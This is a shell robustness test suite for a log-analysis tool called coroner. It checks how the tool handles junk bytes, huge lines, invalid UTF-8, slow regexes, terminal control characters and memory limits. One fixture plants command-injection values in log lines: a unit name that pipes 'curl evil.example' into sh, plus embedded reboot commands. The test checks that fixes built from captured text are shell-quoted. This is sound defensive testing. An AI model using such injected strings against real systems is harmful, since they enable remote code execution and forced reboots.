#!/bin/sh
# robustness.sh — bad input never crashes coroner and never costs the
# diagnoses it could make: binary junk, a 10 MB line, invalid UTF-8, NUL
# bytes, an endless traceback, many interleaved streams, bad signatures.
. "$SRCDIR/tests/e2e/lib.sh"
GOOD="$SRCDIR/corpus/gpu-cuda-oom/log.txt"

run_keeps_oom() { # DESCRIPTION FILE
        "$CORONER" -f json "$2" > "$TMP/r.json" 2>"$TMP/r.err"; s=$?
        if [ $s -le 1 ] && [ "$(json_get "$TMP/r.json" '"torch.cuda-oom" in [d["id"] for d in r["diagnoses"]]')" = True ]; then
                ok "$1"
        else
                not_ok "$1" "exit $s $(head -c 500 "$TMP/r.err")"
        fi
}

head -c 2000000 /dev/urandom > "$TMP/junk"
{ cat "$TMP/junk"; echo; cat "$GOOD"; cat "$TMP/junk"; } > "$TMP/junk.log"
run_keeps_oom "binary junk around a traceback" "$TMP/junk.log"

{ cat "$GOOD"; head -c 10485760 /dev/zero | tr '\0' 'x'; echo; cat "$GOOD"; } > "$TMP/long.log"
run_keeps_oom "a 10 MB line between two tracebacks" "$TMP/long.log"
check "the 10 MB line is cut in the evidence, not kept whole" \
        test "$(wc -c < "$TMP/r.json")" -lt 200000

printf 'Traceback (most recent call last):\n  File "a.py", line 1, in f\nValueError: bad \377\376 bytes \000 and NUL\n' > "$TMP/utf.log"
"$CORONER" -f json "$TMP/utf.log" > "$TMP/utf.json"
check "invalid UTF-8 and NUL: the JSON report is valid UTF-8" "$PY" -c "import json; json.load(open('$TMP/utf.json', encoding='utf-8'))"
check "invalid UTF-8: the exception is still reported" test "$(json_get "$TMP/utf.json" 'r["diagnoses"][0]["exception"]["type"]')" = ValueError

"$PY" -c "
import sys
print('Traceback (most recent call last):')
for i in range(200000):
    print('  File \"/x/rec.py\", line %d, in f' % i)
    print('    f()')
" > "$TMP/endless.log"
cat "$GOOD" >> "$TMP/endless.log"
run_keeps_oom "an endless traceback is bounded and what follows is read" "$TMP/endless.log"

"$PY" -c "
for i in range(100000):
    print('Nov 29 21:40:13 h python3[%d]: Traceback (most recent call last):' % (i + 1000))
for i in range(100000):
    print('Nov 29 21:40:13 h python3[%d]:   File \"a.py\", line 1, in f' % (i + 1000))
" > "$TMP/streams.log"
cat "$GOOD" >> "$TMP/streams.log"
run_keeps_oom "100,000 interleaved open streams" "$TMP/streams.log"

mkdir -p "$TMP/sigs/bad"
printf '{\n  "id": "bad.json",\n  "title": oops\n}\n' > "$TMP/sigs/bad/json.json"
"$CORONER" -s "$TMP/sigs" "$GOOD" >/dev/null 2>"$TMP/err"; s=$?
[ $s -eq 2 ] && grep -q "json.json:3:" "$TMP/err" && ok "a malformed signature file: exit 2 with file:line:column" \
        || not_ok "malformed signature file" "exit $s: $(cat "$TMP/err")"
rm -f "$TMP/sigs/bad/json.json"
cat > "$TMP/sigs/bad/re.json" <<'SIG'
{"id": "bad.re", "title": "t", "category": "disk-full", "severity": "error", "role": "root-cause",
 "summary": "s", "fixes": ["f"], "references": ["r"], "match": {"line": "unclosed (group"},
 "samples": {"match": ["unclosed (group"], "no_match": ["x"]}}
SIG
"$CORONER" -s "$TMP/sigs" "$GOOD" >/dev/null 2>"$TMP/err"; s=$?
[ $s -eq 2 ] && grep -q "re.json" "$TMP/err" && grep -q "offset" "$TMP/err" && ok "a bad PCRE2 pattern: exit 2 with pattern offset" \
        || not_ok "bad PCRE2 pattern" "exit $s: $(cat "$TMP/err")"
# Whoever writes a log line chooses the text a capture puts into a fix: in
# a command it is quoted for the shell (or the fix withheld), never left to
# run. Two systemd lines whose unit names carry commands.
printf '%s\n' 'Nov 29 21:40:13 gpu systemd[1]: x;curl${IFS}evil.example|sh;#.service: Main process exited, code=dumped, status=11/SEGV' \
        'Nov 29 21:40:14 gpu systemd[1]: b`reboot`.service: Main process exited, code=killed, status=9/KILL' \
        "PermissionError: [Errno 13] Permission denied: '/srv/a\$(reboot)b'" > "$TMP/hostile.log"
"$CORONER" -f json "$TMP/hostile.log" > "$TMP/hostile.json"
check "captured text in fixes and checks is quoted for the shell" "$PY" - "$TMP/hostile.json" <<'PYEOF'
import json, re, sys
r = json.load(open(sys.argv[1]))
texts = [f for d in r["diagnoses"] for f in d["fixes"]] + [c["check"] for d in r["diagnoses"] for c in d["candidates"]]
bad = []
for t in texts:
    outside = re.sub(r"'(?:[^']|'\\'')*'", "", t)  # what single quotes do not protect
    if "curl" in outside or "`reboot`" in outside or "$(reboot)" in outside:
        bad.append(t)
assert any("curl" in t for t in texts), "the hostile unit reached no fix: the test tests nothing"
assert any(t.startswith("(A command is withheld") for t in texts), "a value inside the template's quotes: withheld"
sys.exit("\n".join(bad) if bad else 0)
PYEOF
# Regex budget: five 65 KB lines of what systemd's unit-prefixed patterns
# are made of (no blank, no match) take well under a second (issue 13's
# target; they took about 30 s when those patterns began "(?<unit>\S+): ").
# The test allows 5 s: it guards against that blow-up, and the same run
# takes 0.4 s here but 1.2 s in CI's sanitizer build on a loaded machine.
"$PY" -c "
import random
random.seed(1)
for i in range(5):
    print(''.join(random.choice('abcdefghij:.') for _ in range(65000)) + ' Failed with result')
" > "$TMP/long5.log"
t0=$(date +%s%N)
"$CORONER" -f json "$TMP/long5.log" > /dev/null
t1=$(date +%s%N)
ms=$(( (t1 - t0) / 1000000 ))
[ $ms -lt 5000 ] && ok "five hostile 65 KB lines: ${ms} ms (< 5 s)" || not_ok "five hostile 65 KB lines: ${ms} ms (< 5 s)"
# ... and signatures check refuses a pattern whose time grows faster than its line.
mkdir -p "$TMP/slow/systemd"
cat > "$TMP/slow/systemd/slow.json" <<'SIG'
{"id": "systemd.slow", "title": "t", "category": "service-failure", "severity": "error", "role": "root-cause",
 "summary": "s", "fixes": ["f"], "references": ["r"],
 "match": {"line": "(?:(?<unit>\\S+): )?Main process exited, code=dumped"},
 "samples": {"match": ["k26.service: Main process exited, code=dumped"], "no_match": ["x"]}}
SIG
"$CORONER" signatures check --no-default-signatures -s "$TMP/slow" > "$TMP/slow.out" 2>&1; s=$?
[ $s -ne 0 ] && grep -q "hostile 64 KiB line" "$TMP/slow.out" && ok "signatures check: a pattern slow on a hostile line is an error" \
        || not_ok "signatures check: a pattern slow on a hostile line is an error" "exit $s: $(cat "$TMP/slow.out")"
# Terminal and ticket safety: C1 controls (U+009B is a CSI) and bidi
# controls are shown escaped, as C0 controls are.
printf 'RuntimeError: evil \302\23331m red \342\200\256txt.exe\342\200\254 done\n' > "$TMP/c1.log"
for fmt in text markdown json; do
        "$CORONER" --no-pager -f $fmt "$TMP/c1.log" > "$TMP/c1.$fmt"
        check "$fmt: C1 and bidi controls escaped (\\u009b, \\u202e)" sh -c "grep -q 'u009b31m' '$TMP/c1.$fmt' && grep -q 'u202etxt' '$TMP/c1.$fmt' && ! grep -q \"\$(printf '\302\233')\" '$TMP/c1.$fmt' && ! grep -q \"\$(printf '\342\200\256')\" '$TMP/c1.$fmt'"
done
# A JSON log record with a lone surrogate is kept, with U+FFFD.
printf '{"log":"RuntimeError: bad \\ud800 value\\n","stream":"stderr","time":"2026-11-29T21:40:13.000000000Z"}\n' > "$TMP/sur.log"
check "a docker record with a lone \\ud800 is kept" sh -c "'$CORONER' -f json '$TMP/sur.log' | grep -q 'bad \\\\\\\\ufffd value\\|bad � value'"
# Docker json-file pieces without a newline: memory stays bounded.
"$PY" - "$CORONER" "$TMP" > "$TMP/pieces.out" <<'PYEOF'
import json, os, resource, subprocess, sys
coroner, tmp = sys.argv[1:3]
path = os.path.join(tmp, "pieces.log")
with open(path, "w") as f:
    for i in range(2000):
        f.write(json.dumps({"log": "x" * 50000, "stream": "stderr", "time": "2026-11-29T21:40:13Z"}) + "\n")
    f.write(json.dumps({"log": "end\n", "stream": "stderr", "time": "2026-11-29T21:40:13Z"}) + "\n")
subprocess.run([coroner, "-f", "json", path], stdout=subprocess.DEVNULL, check=True,
               env=dict(os.environ, ASAN_OPTIONS=os.environ.get("ASAN_OPTIONS", "") + ":quarantine_size_mb=1"))
rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(f"docker pieces of 100 MB without a newline: peak RSS {rss // 1024} MiB")
sys.exit(0 if rss < 96 * 1024 else 1)
PYEOF
[ $? -eq 0 ] && ok "$(cat "$TMP/pieces.out")" || not_ok "$(cat "$TMP/pieces.out")"
# Nothing silent: an empty input and a binary one say so.
: > "$TMP/empty.log"
"$CORONER" -f json "$TMP/empty.log" > "$TMP/empty.json" 2>&1; s=$?
[ $s -eq 0 ] && [ "$(json_get "$TMP/empty.json" 'r["inputs"][0]["note"]')" = "empty (0 bytes)" ] \
        && ok "an empty file: a note in the report" || not_ok "an empty file: a note" "exit $s $(head -c 500 "$TMP/empty.json")"
"$CORONER" < /dev/null > "$TMP/empty.txt" 2>&1
check "empty standard input: the text report says so" grep -q "note: standard input: empty (0 bytes)" "$TMP/empty.txt"
head -c 200000 /dev/urandom > "$TMP/core.bin"
"$CORONER" -f json "$TMP/core.bin" > "$TMP/bin.json" 2>"$TMP/bin.err"; s=$?
grep -q "core.bin: binary data (.*control bytes in the first 64 KiB)" "$TMP/bin.err" \
        && [ "$(json_get "$TMP/bin.json" '"binary data" in r["inputs"][0]["warning"]')" = True ] \
        && ok "binary input: a warning naming the file, on stderr and in the report" \
        || not_ok "binary input warning" "exit $s $(cat "$TMP/bin.err")"
"$CORONER" -f json "$GOOD" > /dev/null 2>"$TMP/good.err"
check "a text log: no binary warning" test ! -s "$TMP/good.err"
# Nothing dropped: past the cap of distinct unnamed failures, a failure a
# signature names is still reported, and the folded ones are counted.
"$PY" - "$TMP/cap.log" "$GOOD" <<'PYEOF'
import sys
with open(sys.argv[1], "w") as out:
    for i in range(3000):
        out.write(f'Traceback (most recent call last):\n  File "/srv/app/mod{i}.py", line {i + 1}, in handler_{i}\n'
                  f"    do_{i}()\nWidget{i}Error: widget {i} broke\n")
    out.write(open(sys.argv[2]).read())
PYEOF
"$CORONER" -f json "$TMP/cap.log" > "$TMP/cap.json"
check "3000 distinct unnamed failures, then a CUDA OOM: the OOM is reported" \
        test "$(json_get "$TMP/cap.json" '"torch.cuda-oom" in [d["id"] for d in r["diagnoses"]]')" = True
check "the unnamed ones past 1024 are counted as folded" \
        test "$(json_get "$TMP/cap.json" 'r["dropped_events"] + sum(d["count"] for d in r["diagnoses"] if d["id"] == "unrecognized")')" -ge 3000
"$CORONER" "$TMP/cap.log" > "$TMP/cap.txt"
check "the text report says how many were folded" grep -q "more events of failures no signature names were folded" "$TMP/cap.txt"
# A crash loop of 5000 runs: more diagnoses than the cap, every event counted.
"$PY" - "$TMP/loop.log" <<'PYEOF'
import sys
with open(sys.argv[1], "w") as out:
    for i in range(5000):
        p = f"Nov 29 21:40:14 gpu python3[{1000 + i}]: "
        out.write("Nov 29 21:40:13 gpu systemd[1]: Started k26.service - K26.\n"
                  f"{p}Traceback (most recent call last):\n{p}  File \"/srv/serve.py\", line 9, in <module>\n"
                  f"{p}    x = torch.empty(10**12, device='cuda')\n"
                  f"{p}torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 GiB.\n"
                  "Nov 29 21:40:15 gpu systemd[1]: k26.service: Main process exited, code=exited, status=1/FAILURE\n")
PYEOF
"$CORONER" -f json "$TMP/loop.log" > "$TMP/loop.json"
check "a 5000-run crash loop: all 5000 OOMs counted, none dropped" \
        test "$(json_get "$TMP/loop.json" 'str(sum(d["count"] for d in r["diagnoses"] if d["id"] == "torch.cuda-oom")) + "/" + str(r["dropped_events"])')" = 5000/0
# A pattern that hits a PCRE2 limit is a warning naming the signature and
# the line, not a silent "no match" (tests/e2e/slow: a signature that backtracks).
"$PY" -c "print('SLOWTRIGGER ' + 'a' * 60 + 'b')" > "$TMP/slow.log"
"$CORONER" -f json -s "$SRCDIR/tests/e2e/slow" "$TMP/slow.log" > "$TMP/slow.json"
check "a pattern that gives up: JSON pattern_limits names the signature and the line" \
        test "$(json_get "$TMP/slow.json" 'r["pattern_limits"][0]["signature"] + " " + r["pattern_limits"][0]["sample"][:15]')" = "test.slow SLOWTRIGGER aaa"
"$CORONER" --no-pager -s "$SRCDIR/tests/e2e/slow" "$TMP/slow.log" > "$TMP/slow.txt"
check "a pattern that gives up: a warning in the text report" grep -q "signature test.slow gave up on 1 line (a PCRE2 limit)" "$TMP/slow.txt"
done_testing
